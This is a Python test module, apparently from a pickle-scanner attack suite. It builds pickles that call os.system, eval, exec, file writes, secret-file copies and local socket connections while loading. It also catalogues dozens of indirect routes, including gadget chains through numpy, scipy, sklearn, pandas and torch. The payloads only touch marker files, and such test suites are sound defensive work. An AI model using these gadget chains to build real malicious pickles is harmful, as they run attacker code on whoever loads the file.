"""Harmful calls, and every known way to cause a call while a pickle loads."""

from __future__ import annotations

import pickle as P
from collections.abc import Callable

from tests.attacks.case import PLANTED, Case, Place
from tests.attacks.opcodes import call, data, group, instance, integer, listed, mapping, name, text, whole

# --------------------------------------------------------------------------- payloads: function and arguments

Payload = Callable[[Place], tuple[str, list[bytes]]]


def shell(place: Place) -> str:
    return f"touch {place.marker('program')}"


def _evaluated(place: Place) -> str:
    return f"open({place.marker('write')!r}, 'w').close()"


PAYLOADS: dict[str, tuple[str, Payload]] = {
    "os.system": ("program", lambda p: ("posix:system", [text(shell(p))])),
    "nt.system": ("program", lambda p: ("os:system", [text(shell(p))])),
    "Popen": ("program", lambda p: ("subprocess:Popen", [listed(text("touch"), text(p.marker("program")))])),
    "check_output": (
        "program",
        lambda p: ("subprocess:check_output", [listed(*map(text, shell(p).split()))]),
    ),
    "getoutput": ("program", lambda p: ("subprocess:getoutput", [text(shell(p))])),
    "popen": ("program", lambda p: ("os:popen", [text(shell(p))])),
    "pty.spawn": ("program", lambda p: ("pty:spawn", [listed(*map(text, shell(p).split()))])),
    "spawnlp": ("program", lambda p: ("os:spawnlp", [integer(0), *map(text, ["touch", *shell(p).split()])])),
    "webbrowser": ("program", lambda p: ("webbrowser:open", [text("file:///nowhere")])),
    "eval": ("write", lambda p: ("builtins:eval", [text(_evaluated(p))])),
    "exec": ("write", lambda p: ("builtins:exec", [text(_evaluated(p))])),
    "timeit": ("write", lambda p: ("timeit:timeit", [text(_evaluated(p)), text("pass")])),
    "runstring": (
        "write",
        lambda p: ("numpy.testing._private.utils:runstring", [text(_evaluated(p)), P.EMPTY_DICT]),
    ),
    "bdb": ("write", lambda p: ("cProfile:run", [text(_evaluated(p))])),
    "namedtuple": ("write", lambda p: ("pandas.core.computation.eval:eval", [text(f"@{_evaluated(p)}")])),
    "open": ("write", lambda p: ("builtins:open", [text(p.marker("write")), text("w")])),
    "io.open": ("write", lambda p: ("_io:open", [text(p.marker("write")), text("w")])),
    "FileIO": ("write", lambda p: ("_io:FileIO", [text(p.marker("write")), text("w")])),
    "FileHandler": ("write", lambda p: ("logging:FileHandler", [text(p.marker("write"))])),
    "sqlite": ("write", lambda p: ("sqlite3:connect", [text(p.marker("write"))])),
    "ZipFile": ("write", lambda p: ("zipfile:ZipFile", [text(p.marker("write")), text("w")])),
    "gzip": ("write", lambda p: ("gzip:GzipFile", [text(p.marker("write")), text("w")])),
    "mkdir": ("write", lambda p: ("posix:mkdir", [text(p.marker("write"))])),
    "symlink": ("write", lambda p: ("posix:symlink", [text("/"), text(p.marker("write"))])),
    "shelve": ("write", lambda p: ("shelve:open", [text(p.marker("write"))])),
    "Memory": ("write", lambda p: ("joblib.memory:Memory", [text(p.marker("write"))])),
    "check_memory": ("write", lambda p: ("sklearn.utils.validation:check_memory", [text(p.marker("write"))])),
    "np.save": ("write", lambda p: ("numpy:save", [text(p.marker("write")), integer(1)])),
    "np.memmap": (
        "write",
        lambda p: ("numpy:memmap", [text(p.marker("write")), text("u1"), text("w+"), integer(0), integer(8)]),
    ),
    "arrow stream": (
        "write",
        lambda p: ("pyarrow.lib:CompressedOutputStream", [text(p.marker("write")), text("gzip")]),
    ),
    "arrow file": ("write", lambda p: ("pyarrow.lib:OSFile", [text(p.marker("write")), text("w")])),
    "torch.save": ("write", lambda p: ("torch:save", [integer(1), text(p.marker("write"))])),
    "from_file": (
        "write",
        lambda p: ("torch._C:_VariableFunctions.from_file", [text(p.marker("write")), P.NEWTRUE, integer(9)]),
    ),
    "copyfile": ("secret", lambda p: ("shutil:copyfile", [text(str(p.secret)), text(p.marker("secret"))])),
    "link": ("secret", lambda p: ("posix:link", [text(str(p.secret)), text(p.marker("secret"))])),
    "rename": ("secret", lambda p: ("posix:rename", [text(str(p.secret)), text(p.marker("secret"))])),
    "socket": (
        "connect",
        lambda p: ("socket:create_connection", [group(text("127.0.0.1"), integer(p.port)), integer(1)]),
    ),
    "urlopen": ("connect", lambda p: ("urllib.request:urlopen", [text(f"http://127.0.0.1:{p.port}/")])),
    "ftp": ("connect", lambda p: ("ftplib:FTP", [text(f"127.0.0.1:{p.port}")])),
    "pandas url": (
        "connect",
        lambda p: ("pandas.io.parsers.readers:read_csv", [text(f"http://127.0.0.1:{p.port}/")]),
    ),
    "import_module": ("import", lambda p: ("importlib:import_module", [text(PLANTED)])),
    "__import__": ("import", lambda p: ("builtins:__import__", [text(PLANTED)])),
    "locate": ("import", lambda p: ("pydoc:locate", [text(PLANTED)])),
    "resolve_name": ("import", lambda p: ("pkgutil:resolve_name", [text(PLANTED)])),
    "run_module": ("import", lambda p: ("runpy:run_module", [text(PLANTED)])),
    "dotted import": ("import", lambda p: ("torch._utils:_import_dotted_name", [text(PLANTED)])),
    "pickle.loads": (
        "program",
        lambda p: ("_pickle:loads", [data(whole(call(name("posix:system"), text(shell(p)))))]),
    ),
    "marshal": ("write", lambda p: ("marshal:loads", [data(b"N")])),
    "exit": ("program", lambda p: ("posix:_exit", [integer(3)])),
    "kill": ("program", lambda p: ("posix:kill", [integer(0), integer(0)])),
}


def _direct(payload: Payload) -> Callable[[Place], bytes]:
    def content(place: Place) -> bytes:
        function, arguments = payload(place)
        return whole(call(name(function), *arguments))

    return content


# --------------------------------------------------------------------------- ways to call something

Way = Callable[[bytes, bytes], bytes]
"""From a function and its one argument to the body of a pickle that calls it."""

_ESTIMATOR = "sklearn.linear_model._base:LinearRegression"
_PATCHED = name(_ESTIMATOR) + P.EMPTY_TUPLE + P.NEWOBJ


def _factory(function: bytes, argument: bytes) -> bytes:
    """A dict that calls `function` for a missing key, and an object that looks such a key up."""
    dictionary = call(name("collections:defaultdict"), call(name("functools:partial"), function, argument))
    return call(call(name("operator:itemgetter"), text("x")), dictionary)


def _interval(function: bytes, argument: bytes) -> bytes:
    space = name("types:SimpleNamespace") + P.EMPTY_TUPLE + P.REDUCE
    space += mapping(from_arrays=function) + P.BUILD
    return call(name("pandas.core.indexes.interval:_new_IntervalIndex"), space, mapping(a=argument))


def _second_build(function: bytes, argument: bytes) -> bytes:
    return _PATCHED + mapping(__setstate__=function) + P.BUILD + argument + P.BUILD


def _adding(attribute: str, opcode: bytes) -> Way:
    def way(function: bytes, argument: bytes) -> bytes:
        patched = _PATCHED + mapping(**{attribute: function}) + P.BUILD
        values = {P.APPEND: argument, P.SETITEM: argument + P.NONE}.get(opcode)
        return patched + (values or P.MARK + argument + (P.NONE if opcode == P.SETITEMS else b"")) + opcode

    return way


WAYS: dict[str, Way] = {
    "reduce": lambda f, a: call(f, a),
    "obj": lambda f, a: P.MARK + f + a + P.OBJ,
    "newobj": lambda f, a: f + a + P.TUPLE1 + P.NEWOBJ,
    "newobj_ex": lambda f, a: f + a + P.TUPLE1 + P.EMPTY_DICT + P.NEWOBJ_EX,
    "copyreg newobj": lambda f, a: call(name("copyreg:__newobj__"), f, a),
    "copyreg reconstructor": lambda f, a: call(name("copyreg:_reconstructor"), f, name("builtins:object"), a),
    "partial": lambda f, a: call(call(name("functools:partial"), f, a)),
    "partial state": lambda f, a: (
        name("functools:partial")
        + name("builtins:len")
        + P.TUPLE1
        + P.NEWOBJ
        + group(f, group(a), P.EMPTY_DICT, P.NONE)
        + P.BUILD
        + P.EMPTY_TUPLE
        + P.REDUCE
    ),
    "factory": _factory,
    "fold": lambda f, a: call(name("functools:reduce"), f, listed(a, a)),
    "map": lambda f, a: call(name("builtins:list"), call(name("builtins:map"), f, listed(a))),
    "filter": lambda f, a: call(name("builtins:list"), call(name("builtins:filter"), f, listed(a))),
    "sorted key": lambda f, a: call(call(name("functools:partial"), name("builtins:sorted")), listed(a), f),
    "second build": _second_build,
    "append": _adding("append", P.APPEND),
    "extend": _adding("extend", P.APPENDS),
    "add": _adding("add", P.ADDITEMS),
    "setitem": _adding("__setitem__", P.SETITEM),
    "setitems": _adding("__setitem__", P.SETITEMS),
    "interval": _interval,
    "generator": lambda f, a: call(name("numpy.random._pickle:__generator_ctor"), a, f),
    "randomstate": lambda f, a: call(name("numpy.random._pickle:__randomstate_ctor"), a, f),
    "vectorize": lambda f, a: call(call(name("numpy:vectorize"), f), listed(a)),
    "along axis": lambda f, a: call(name("numpy:apply_along_axis"), f, integer(0), listed(a)),
    "ufunc": lambda f, a: call(call(name("numpy:frompyfunc"), f, integer(1), integer(1)), a),
    "callback": lambda f, a: call(
        name("scipy.optimize._optimize:_minimize_neldermead"), f, listed(integer(1))
    ),
    "low level": lambda f, a: call(name("scipy._lib._ccallback:LowLevelCallable"), f, a),
    "integrate": lambda f, a: call(name("scipy.integrate._quadpack_py:quad"), f, integer(0), integer(1)),
    "from type": lambda f, a: call(
        name("torch._tensor:_rebuild_from_type_v2"), f, name("torch:Tensor"), group(a), P.NONE
    ),
    "weakref": lambda f, a: call(name("weakref:finalize"), _PATCHED, f, a),
    "atexit": lambda f, a: call(name("atexit:register"), f, a),
    "thread": lambda f, a: call(name("_thread:start_new_thread"), f, group(a)),
    "property": lambda f, a: call(name("builtins:property"), f),
    "type": lambda f, a: call(call(name("builtins:type"), text("X"), P.EMPTY_TUPLE, mapping(__init__=f)), a),
    "parallel": lambda f, a: call(name("sklearn.utils.parallel:delayed"), f),
    "state of a class": lambda f, a: name(_ESTIMATOR) + mapping(fit=f) + P.BUILD,
    "state of a result": lambda f, a: (
        call(name("numpy:asarray"), name(_ESTIMATOR)) + mapping(predict=f) + P.BUILD
    ),
    "copied class": lambda f, a: call(name("copy:copy"), name(_ESTIMATOR)) + mapping(predict=f) + P.BUILD,
    "late state": lambda f, a: (
        P.EMPTY_DICT
        + P.MEMOIZE
        + P.POP
        + name("types:SimpleNamespace")
        + P.EMPTY_TUPLE
        + P.NEWOBJ
        + P.BINGET
        + b"\0"
        + P.BUILD
        + P.POP
        + P.BINGET
        + b"\0"
        + text("__setstate__")
        + f
        + P.SETITEM
        + call(f, a)
    ),
    "made state": lambda f, a: (
        _PATCHED + call(name("builtins:dict"), listed(group(text("__setstate__"), f))) + P.BUILD + a + P.BUILD
    ),
    "slots": lambda f, a: _PATCHED + P.NONE + mapping(__class__=f) + P.TUPLE2 + P.BUILD,
}
_WAY_PAYLOADS = {
    "system": ("program", lambda p: ("posix:system", text(shell(p)))),
    "eval": ("write", lambda p: ("builtins:eval", text(_evaluated(p)))),
    "getattr": ("program", lambda p: ("builtins:getattr", text("x"))),
}


def _by(way: Way, payload: Callable[[Place], tuple[str, bytes]]) -> Callable[[Place], bytes]:
    def content(place: Place) -> bytes:
        function, argument = payload(place)
        return whole(way(name(function), argument))

    return content


# --------------------------------------------------------------------------- what libraries call by name

_STACK = "sklearn.ensemble._stacking:StackingRegressor"
_SCORER = "sklearn.metrics._scorer"
_NORM = "scipy.stats._continuous_distns:norm_gen"


def _scored(scorer: bytes, model: bytes) -> bytes:
    """A call of a scorer, which has the model predict."""
    called = call(name("functools:partial"), scorer, model, text("x"))
    return whole(call(name("numpy.random._pickle:__generator_ctor"), integer(1), called))


def _stack(place: Place, method: bytes) -> bytes:
    final = instance("sklearn.linear_model._base:LinearRegression")
    path = call(name("pathlib:PosixPath"), text(place.marker("write")))
    return instance(
        _STACK,
        estimators=listed(),
        estimators_=listed(path),
        stack_method_=method,
        final_estimator=final,
        final_estimator_=final,
    )


def _stacked(method: Callable[[bytes], bytes]) -> Callable[[Place], bytes]:
    """A model that writes a file in `predict`, by the method of a path that its state names."""

    def content(place: Place) -> bytes:
        stack = _stack(place, method(text("write_text")))
        return _scored(instance(f"{_SCORER}:_PassthroughScorer", _estimator=stack), stack)

    return content


def _saved_by_scorer(made: Callable[..., bytes]) -> Callable[[Place], bytes]:
    """A scorer that has a model of xgboost written to a file."""

    def content(place: Place) -> bytes:
        called = call(
            name("functools:partial"),
            made(name("numpy:mean"), integer(1), P.EMPTY_DICT, text("save_model")),
            instance("xgboost.sklearn:XGBRegressor"),
            text(place.marker("write")),
        )
        return whole(call(name("numpy.random._pickle:__generator_ctor"), integer(1), called))

    return content


def _by_class_method(function: bytes, **keywords: bytes) -> bytes:
    """A call of any function, which stands where pandas expects a method of a class."""
    space = name("types:SimpleNamespace") + P.EMPTY_TUPLE + P.NEWOBJ + mapping(from_arrays=function) + P.BUILD
    pairs = listed(*(group(text(key), value) for key, value in keywords.items()))
    return call(
        name("pandas.core.indexes.interval:_new_IntervalIndex"), space, call(name("builtins:dict"), pairs)
    )


def _saved_by_made_scorer(place: Place) -> bytes:
    scorer = _by_class_method(
        name(f"{_SCORER}:make_scorer"),
        score_func=name("numpy:mean"),
        response_method=listed(text("save_model")),
    )
    model, path = instance("xgboost.sklearn:XGBRegressor"), text(place.marker("write"))
    return whole(_by_class_method(scorer, estimator=model, X=path, y_true=listed(integer(1))))


def _scorer_state(score: bytes, sign: bytes, keywords: bytes, method: bytes) -> bytes:
    state = {"_score_func": score, "_sign": sign, "_kwargs": keywords, "_response_method": method}
    return instance(f"{_SCORER}:_Scorer", **state)


def _distribution(place: Place, made: Callable[[bytes], bytes]) -> bytes:
    """A distribution of scipy whose state is set by a function of torch, and holds a text that scipy runs."""
    names = ("_parse_args", "_parse_args_rvs", "_parse_args_stats")
    code = "\n".join(f"def {each}(self, x={_evaluated(place)}): pass" for each in names)
    state = made(text(code))
    kind = name(_NORM)
    return whole(call(name("torch._tensor:_rebuild_from_type_v2"), kind, kind, P.EMPTY_TUPLE, state))


def _runner(place: Place) -> bytes:
    """The runner of a library's tests, for a folder that the file names."""
    runner = call(name("statsmodels.tools._test_runner:PytestTester"), text("./x"))
    options = listed(text("-p"), text("no:cacheprovider"))
    return whole(call(name("numpy.random._pickle:__generator_ctor"), options, runner))


BY_NAME: list[Case] = [
    Case("a method of a path", "write", _stacked(listed)),
    Case("a method of a path, in a tuple", "write", _stacked(group)),
    Case("a method of a path, made", "write", _stacked(lambda t: call(name("builtins:list"), group(t)))),
    Case(
        "a method of a path, as text made", "write", _stacked(lambda t: listed(call(name("builtins:str"), t)))
    ),
    Case(
        "a scorer's method",
        "write",
        _saved_by_scorer(lambda *arguments: call(name(f"{_SCORER}:_Scorer"), *arguments)),
    ),
    Case("a scorer's method in its state", "write", _saved_by_scorer(_scorer_state)),
    Case("a scorer that is made while it loads", "write", _saved_by_made_scorer),
    Case(
        "a kept function in place of a method of a class",
        "write",
        lambda p: whole(_by_class_method(name("statistics:mean"), data=listed(integer(1)))),
    ),
    Case(
        "a state through torch",
        "write",
        lambda p: _distribution(
            p, lambda t: call(name("builtins:dict"), listed(group(text("_parse_arg_template"), t)))
        ),
    ),
    Case(
        "a state through torch, plain",
        "write",
        lambda p: _distribution(p, lambda t: mapping(_parse_arg_template=t)),
    ),
    Case(
        "keywords of partial that are made",
        "program",
        lambda p: whole(
            name("functools:partial")
            + name("types:SimpleNamespace")
            + P.TUPLE1
            + P.NEWOBJ
            + group(
                name("types:SimpleNamespace"),
                P.EMPTY_TUPLE,
                call(name("builtins:dict"), listed(group(text("__setstate__"), name("builtins:len")))),
                P.NONE,
            )
            + P.BUILD
        ),
    ),
    Case(
        "scipy's template in another dict",
        "program",
        lambda p: whole(listed(mapping(_parse_arg_template=text(_evaluated(p))))),
    ),
    Case("a runner of tests", "import", _runner, beside={"test_planted.py": "def test(): pass\n"}),
    Case("a library's tests", "program", lambda p: whole(call(name("scipy.stats:test")))),
]

CALLS: list[Case] = [
    *(Case(f"call {label}", kind, _direct(payload)) for label, (kind, payload) in PAYLOADS.items()),
    *(
        Case(f"{way_name} of {label}", kind, _by(way, payload))
        for way_name, way in WAYS.items()
        for label, (kind, payload) in _WAY_PAYLOADS.items()
        if label != "getattr"
        or way_name in ("partial", "factory", "map", "fold", "interval", "append", "vectorize")
    ),
    *BY_NAME,
]
